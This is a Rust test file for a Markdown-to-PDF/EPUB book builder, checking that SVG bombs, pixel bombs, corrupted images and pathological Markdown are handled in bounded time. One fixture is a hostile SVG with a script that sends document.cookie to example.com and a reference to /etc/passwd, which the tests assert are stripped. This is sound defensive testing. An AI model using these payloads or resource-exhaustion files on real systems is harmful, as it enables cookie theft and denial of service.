//! Every input is bounded: small files built to cost minutes or gigabytes (SVG bombs,
//! pixel bombs, pathological Markdown) finish quickly with a placeholder or a clear
//! refusal; damaged images are refused at load; SVG figures reach the EPUB without
//! anything that runs or fetches, and the EPUB passes EPUBCheck. The time limit here is
//! a generous harness limit only; the real figures are in benches/README.md.

use std::io::Cursor;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use crate::common::{self, stderr};

/// A one-chapter manuscript in this run's scratch folder, with extra files.
fn manuscript(name: &str, chapter: &str, files: &[(&str, Vec<u8>)]) -> PathBuf {
    let dir = common::scratch_dir().join(format!("bounds-{name}"));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("images")).unwrap();
    std::fs::write(dir.join("book.toml"), "[book]\ntitle = \"Cota\"\n").unwrap();
    std::fs::write(dir.join("01.md"), chapter).unwrap();
    for (path, bytes) in files {
        std::fs::write(dir.join(path), bytes).unwrap();
    }
    dir
}

/// `imprenta build` on `dir`, killed if it runs past the harness's limit.
fn build(dir: &Path) -> (Output, Duration) {
    let started = Instant::now();
    let mut child = Command::new(env!("CARGO_BIN_EXE_imprenta"))
        .args(["build", "-q", "--manuscript"])
        .arg(dir)
        .arg("--out-dir")
        .arg(dir.join("out"))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let limit = Duration::from_secs(90);
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > limit {
            let _ = child.kill();
            panic!("{} ran past {limit:?}", dir.display());
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    (child.wait_with_output().unwrap(), started.elapsed())
}

const FIGURE: &str = "# Uno\n\nAntes.\n\n![Un dibujo](images/f.svg)\n\nDespués.\n";
const NS: &str = r#"xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink""#;

fn svg(body: &str) -> Vec<u8> {
    format!("<svg {NS} width=\"100\" height=\"100\">{body}</svg>").into_bytes()
}

/// SVG figures built to exhaust the converter: each becomes the PDF's placeholder, with a
/// warning that names the chapter's line and the limit, and the EPUB stays valid.
#[test]
fn svg_bombs_become_placeholders_in_bounded_time() {
    let mut fan_out = String::from("<defs><rect id=\"l0\" width=\"1\" height=\"1\"/>");
    for level in 1..=11 {
        fan_out.push_str(&format!("<g id=\"l{level}\">"));
        for _ in 0..5 {
            fan_out.push_str(&format!("<use xlink:href=\"#l{}\"/>", level - 1));
        }
        fan_out.push_str("</g>");
    }
    fan_out.push_str("</defs><use xlink:href=\"#l11\"/>");
    let rect = "<rect x=\"1\" y=\"1\" width=\"2\" height=\"2\" fill=\"#123456\"/>";
    let cases = [
        (
            "text",
            svg(&format!(
                "<text x=\"0\" y=\"10\">{}</text>",
                "palabra ".repeat(40_000)
            )),
            "characters of text (each use counted), over the limit of 20000",
        ),
        (
            "huge",
            svg(&rect.repeat(31_000_000 / rect.len())),
            "XML nodes, the limit for a figure",
        ),
        (
            "opacity",
            svg(&format!(
                "{}{}",
                "<g opacity=\"0.99\"><rect width=\"100\" height=\"100\"/>".repeat(30),
                "</g>".repeat(30)
            )),
            "nests groups with opacity, masks or filters 25 deep, over the limit of 24",
        ),
        (
            "fan-out",
            svg(&fan_out),
            "<use> references and markers are expanded, over the limit of 100000",
        ),
    ];
    for (name, data, reason) in cases {
        let dir = manuscript(&format!("svg-{name}"), FIGURE, &[("images/f.svg", data)]);
        let (output, took) = build(&dir);
        let message = stderr(&output);
        assert_eq!(output.status.code(), Some(0), "{name}: {message}");
        if name == "huge" {
            // Too large for either book: an empty frame in the EPUB too.
            assert!(
                message.contains("images/f.svg: the drawing is not copied into the EPUB"),
                "{message}"
            );
        }
        assert!(
            message.contains("01.md:5: images/f.svg is not drawn in the PDF")
                && message.contains(reason),
            "{name} ({took:?}): {message}"
        );
        let text = common::tool("pdftotext").map(|pdftotext| {
            common::run(
                &pdftotext,
                &[dir.join("out/cota.pdf").as_os_str(), "-".as_ref()],
            )
            .1
        });
        if let Some(text) = text {
            assert!(
                text.contains("Después") && text.contains("Un dibujo"),
                "{name}: {text}"
            );
        }
        common::assert_epubcheck_clean(&dir.join("out/cota.epub"));
        let _ = std::fs::remove_dir_all(&dir);
    }
}

/// What the EPUB copies of an SVG: the drawing, never a script or a reference out of it.
#[test]
fn svg_figures_reach_the_epub_without_scripts_or_outside_references() {
    let hostile = format!(
        r##"<?xml version="1.0"?>
<!DOCTYPE svg [ <!ENTITY nombre "Illimani"> ]>
<svg {NS} width="120" height="60" onload="alert(1)">
  <script>fetch('https://example.com/?' + document.cookie)</script>
  <image xlink:href="file:///etc/passwd" width="10" height="10"/>
  <image href="https://example.com/remoto.png" width="10" height="10"/>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://example.com/"/></foreignObject>
  <style>@import url(https://example.com/x.css);</style>
  <rect width="120" height="60" fill="#036" onclick="x()"/>
  <text x="5" y="40" fill="#fff">&nombre;</text>
</svg>"##
    );
    let dir = manuscript(
        "svg-hostile",
        FIGURE,
        &[("images/f.svg", hostile.into_bytes())],
    );
    let (output, _) = build(&dir);
    let message = stderr(&output);
    assert_eq!(output.status.code(), Some(0), "{message}");
    assert!(
        message.contains("images/f.svg: removed from the EPUB's copy of the drawing:"),
        "{message}"
    );
    let epub = std::fs::read(dir.join("out/cota.epub")).unwrap();
    let drawing = common::text_of(&epub, "OEBPS/img/imagen-01.svg");
    for gone in [
        "script",
        "passwd",
        "example.com",
        "foreignObject",
        "onload",
        "onclick",
        "ENTITY",
    ] {
        assert!(
            !drawing.contains(gone),
            "{gone} in the EPUB's SVG:\n{drawing}"
        );
    }
    assert!(drawing.contains(">Illimani</text>"), "{drawing}");
    assert!(drawing.contains("fill=\"#036\""), "{drawing}");
    common::assert_epubcheck_clean(&dir.join("out/cota.epub"));
    let _ = std::fs::remove_dir_all(&dir);
}

/// A PNG of `width`×`height` RGBA pixels, all the same: a few kilobytes however large.
fn flat_png(width: u32, height: u32) -> Vec<u8> {
    let mut out = Vec::new();
    {
        let mut encoder = png::Encoder::new(&mut out, width, height);
        encoder.set_color(png::ColorType::Rgba);
        encoder.set_compression(png::Compression::Fast);
        let mut writer = encoder.write_header().unwrap();
        let mut stream = writer.stream_writer().unwrap();
        let row = vec![200u8; width as usize * 4];
        for _ in 0..height {
            std::io::Write::write_all(&mut stream, &row).unwrap();
        }
        stream.finish().unwrap();
    }
    out
}

#[test]
fn pixel_bombs_and_damaged_images_are_refused_with_their_line() {
    let image = "# Uno\n\nTexto.\n\n![Foto](images/f.png)\n";
    let bomb = flat_png(6300, 6300);
    assert!(bomb.len() < 1 << 20, "{} bytes", bomb.len());
    let good = flat_png(40, 30);
    let idat = good.windows(4).position(|w| w == b"IDAT").unwrap();
    let mut garbled = good.clone();
    for b in &mut garbled[idat + 6..idat + 20] {
        *b ^= 0x5A;
    }
    let mut jpeg = Vec::new();
    let photo = image::RgbImage::from_fn(64, 48, |x, y| image::Rgb([x as u8 * 4, y as u8 * 5, 90]));
    image::DynamicImage::ImageRgb8(photo)
        .write_to(&mut Cursor::new(&mut jpeg), image::ImageFormat::Jpeg)
        .unwrap();
    // Cut after the headers with the end marker put back, and cut inside the image data.
    let scan = jpeg.windows(2).position(|w| w == [0xFF, 0xDA]).unwrap();
    let header_end = scan + 2 + usize::from(u16::from_be_bytes([jpeg[scan + 2], jpeg[scan + 3]]));
    let mut cut = jpeg[..header_end].to_vec();
    cut.extend([0xFF, 0xD9]);
    let short = jpeg[..header_end + 30].to_vec();
    let cases: [(&str, &str, Vec<u8>, &str); 4] = [
        (
            "bomb",
            "images/f.png",
            bomb,
            "6300×6300 pixels (39.7 megapixels), over the limit of 25 megapixels",
        ),
        (
            "garbled",
            "images/f.png",
            garbled,
            "is corrupt or truncated",
        ),
        ("cut", "images/f.jpg", cut, "is corrupt or truncated"),
        ("short", "images/f.jpg", short, "is corrupt or truncated"),
    ];
    for (name, path, data, expected) in cases {
        let chapter = image.replace("images/f.png", path);
        let dir = manuscript(&format!("raster-{name}"), &chapter, &[(path, data)]);
        let (output, took) = build(&dir);
        let message = stderr(&output);
        assert_eq!(output.status.code(), Some(1), "{name}: {message}");
        assert!(
            message.contains(&format!("01.md:5: image `{path}` ")) && message.contains(expected),
            "{name} ({took:?}): {message}"
        );
        assert!(!dir.join("out").exists(), "{name}: an output was written");
        let _ = std::fs::remove_dir_all(&dir);
    }
}

/// Small Markdown that once cost the typesetter quadratic time: each builds, its text set.
#[test]
fn pathological_markdown_builds() {
    let spans = |n: usize, sep: &str| -> String {
        (0..n)
            .map(|i| format!("`{}`", (b'a' + (i % 26) as u8) as char))
            .collect::<Vec<_>>()
            .join(sep)
    };
    let emphasis: String = "*_**".chars().cycle().take(6000).collect();
    let cases = [
        ("spans-25000", format!("# C\n\n{}\n", spans(25_000, " "))),
        ("spans-100000", format!("# C\n\n{}\n", spans(100_000, " "))),
        ("spans-glued", format!("# C\n\n{}\n", spans(50_000, ""))),
        (
            "emphasis",
            format!(
                "# E\n\n{emphasis}x{}\n",
                emphasis.chars().rev().collect::<String>()
            ),
        ),
        ("nul", format!("# N\n\n{}\n", "palabra\0".repeat(30_000))),
    ];
    for (name, chapter) in cases {
        let dir = manuscript(&format!("md-{name}"), &chapter, &[]);
        let (output, took) = build(&dir);
        assert_eq!(output.status.code(), Some(0), "{name}: {}", stderr(&output));
        let pdf = std::fs::read(dir.join("out/cota.pdf")).unwrap();
        assert!(pdf.starts_with(b"%PDF-"), "{name}");
        eprintln!("{name}: {took:?}");
        let _ = std::fs::remove_dir_all(&dir);
    }
}

/// Heading ids the author writes cannot take the footnotes' ids.
#[test]
fn explicit_ids_never_collide_with_the_notes() {
    let chapter =
        "# Uno {#nota.1}\n\nTexto.[^a] Más.[^b]\n\n## Dos {#ref.1}\n\n## Tres {#nota.2}\n\n\
                   [^a]: Primera.\n[^b]: Segunda.\n";
    let dir = manuscript("ids", chapter, &[]);
    let (output, _) = build(&dir);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    common::assert_epubcheck_clean(&dir.join("out/cota.epub"));
    let _ = std::fs::remove_dir_all(&dir);
}
